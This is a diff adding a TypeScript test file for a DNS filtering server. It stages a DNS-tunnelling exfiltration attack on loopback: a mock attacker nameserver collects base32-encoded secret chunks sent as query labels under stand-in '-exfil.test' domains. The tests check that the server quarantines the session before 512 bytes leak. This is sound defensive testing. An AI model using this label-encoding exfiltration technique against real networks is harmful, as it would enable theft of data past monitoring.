@@ -1,0 +1,114 @@
+// The attack lab at CI scale (issue 14): an attacker's authoritative nameserver of our own (node dgram on
+// loopback, the server's only upstream) records every label that reaches it and decodes the secret from them, so
+// "bytes out" is counted at the attacker. The attacker here is not polite: its nameserver never answers (the
+// labels are all it wants), or answers late while the client keeps many queries in flight. Both got the whole
+// 4 KiB secret out before information was counted at send time (bench/lab.mjs LAB_ATTACKER=silent
+// LAB_PARALLEL=50: 4096 of 4096 bytes, never quarantined), since a query was accounted only when an answer came.
+import dgram from 'node:dgram';
+import { afterEach, describe, expect, it } from 'vitest';
+import { base32, prng } from '../../fixtures/corpora/generate.mjs';
+import { query } from '../helpers/dns-client.js';
+import { startWarden, type Warden } from '../helpers/warden.js';
+
+type Behaviour = 'silent' | 'late';
+
+interface Attacker {
+  readonly port: number;
+  /** Distinct labels received (the attacker decodes each once). */
+  readonly labels: Set<string>;
+  received: number;
+  close(): Promise<void>;
+}
+
+/** The attacker's nameserver: records the first label of every question; never answers, or answers after `lateMs`. */
+async function startAttacker(behaviour: Behaviour, lateMs = 1500): Promise<Attacker> {
+  const sock = dgram.createSocket('udp4');
+  const timers = new Set<NodeJS.Timeout>();
+  const a: Attacker = {
+    port: 0,
+    labels: new Set(),
+    received: 0,
+    close: () => {
+      for (const t of timers) clearTimeout(t);
+      return new Promise((ok) => sock.close(() => ok()));
+    },
+  };
+  sock.on('message', (msg, rinfo) => {
+    if (msg.length < 13) return;
+    a.received++;
+    a.labels.add(msg.toString('latin1', 13, 13 + msg[12]!).toLowerCase());
+    if (behaviour === 'silent') return;
+    // the question back with RA/AA, no answer records: NOERROR/NODATA, two seconds late
+    let end = 12;
+    while (end < msg.length && msg[end] !== 0) end += msg[end]! + 1;
+    const reply = Buffer.from(msg.subarray(0, end + 5));
+    reply.writeUInt16BE(0x8480 | (msg.readUInt16BE(2) & 0x0100), 2);
+    reply.writeUInt16BE(1, 4);
+    reply.fill(0, 6, 12);
+    const t = setTimeout(() => {
+      timers.delete(t);
+      sock.send(reply, rinfo.port, rinfo.address);
+    }, lateMs);
+    timers.add(t);
+  });
+  await new Promise<void>((ok) => sock.bind(0, '127.0.0.1', ok));
+  return Object.assign(a, { port: sock.address().port });
+}
+
+/** Secret bytes the attacker decodes from the base32 labels it received (each label once). */
+function decodedBytes(labels: Iterable<string>): number {
+  let bytes = 0;
+  for (const l of labels) if (/^[a-z2-7]+$/.test(l)) bytes += Math.floor((l.length * 5) / 8);
+  return bytes;
+}
+
+let warden: Warden | undefined;
+let attacker: Attacker | undefined;
+afterEach(async () => {
+  await warden?.close();
+  await attacker?.close();
+  warden = attacker = undefined;
+});
+
+async function play(opts: { behaviour: Behaviour; type: 'interactive' | 'batch'; domains: number; inFlight: number; timeoutMs: number }) {
+  attacker = await startAttacker(opts.behaviour);
+  warden = await startWarden({
+    sessions: { static: [{ id: 'lab-1', addresses: ['127.0.0.1/32'], type: opts.type, user: 'mallory', role: 'agent' }] },
+    upstreams: [{ address: `127.0.0.1:${attacker.port}`, timeout_ms: opts.timeoutMs }],
+    // as fast as the client goes: lifted so what is measured is what the budgets let out, not the per-minute cap
+    policy: { session_types: { [opts.type]: { bandwidth_bytes_per_min: 1e9 } } },
+  });
+  const r = prng(4096 + opts.domains);
+  const names: string[] = [];
+  for (let i = 0; i < 228; i++) names.push(`${base32(r.bytes(18))}.d${i % opts.domains}-exfil.test`); // 4 KiB in 18-byte chunks
+  let quarantined = false;
+  let sent = 0;
+  const started = Date.now();
+  for (let i = 0; i < names.length && !quarantined && Date.now() - started < 60_000; i += opts.inFlight) {
+    const batch = names.slice(i, i + opts.inFlight);
+    const replies = await Promise.all(batch.map((name) => query({ server: warden!.dns, name, type: 'A', timeoutMs: opts.timeoutMs + 4000 })));
+    sent += batch.length;
+    quarantined = replies.some((rep) => rep.ede?.code === 15 && /session quarantined/.test(rep.ede.text));
+  }
+  const listed = (await warden.admin('/v1/quarantines')).json as { quarantines: { session: { id: string } }[] };
+  return { sent, quarantined, listed: listed.quarantines.map((q) => q.session.id), bytes: decodedBytes(attacker.labels), reached: attacker.received };
+}
+
+describe('attack lab: labels are counted when they leave, not when an answer comes', () => {
+  for (const type of ['interactive', 'batch'] as const) {
+    it(`a nameserver that never answers, 32 queries in flight, 10 domains (${type}): ≤ 512 secret bytes reach it before the quarantine`, async () => {
+      const r = await play({ behaviour: 'silent', type, domains: 10, inFlight: 32, timeoutMs: 500 });
+      expect(r.quarantined).toBe(true);
+      expect(r.listed).toEqual(['lab-1']);
+      expect(r.reached).toBeGreaterThan(0); // the harness counts: labels did reach the attacker
+      expect(r.bytes).toBeLessThanOrEqual(512);
+    }, 90_000);
+  }
+
+  it('a nameserver that answers 1.5 s late while 64 queries are in flight, one domain: ≤ 512 bytes before the quarantine', async () => {
+    const r = await play({ behaviour: 'late', type: 'interactive', domains: 1, inFlight: 64, timeoutMs: 3000 });
+    expect(r.quarantined).toBe(true);
+    expect(r.reached).toBeGreaterThan(0);
+    expect(r.bytes).toBeLessThanOrEqual(512);
+  }, 90_000);
+});
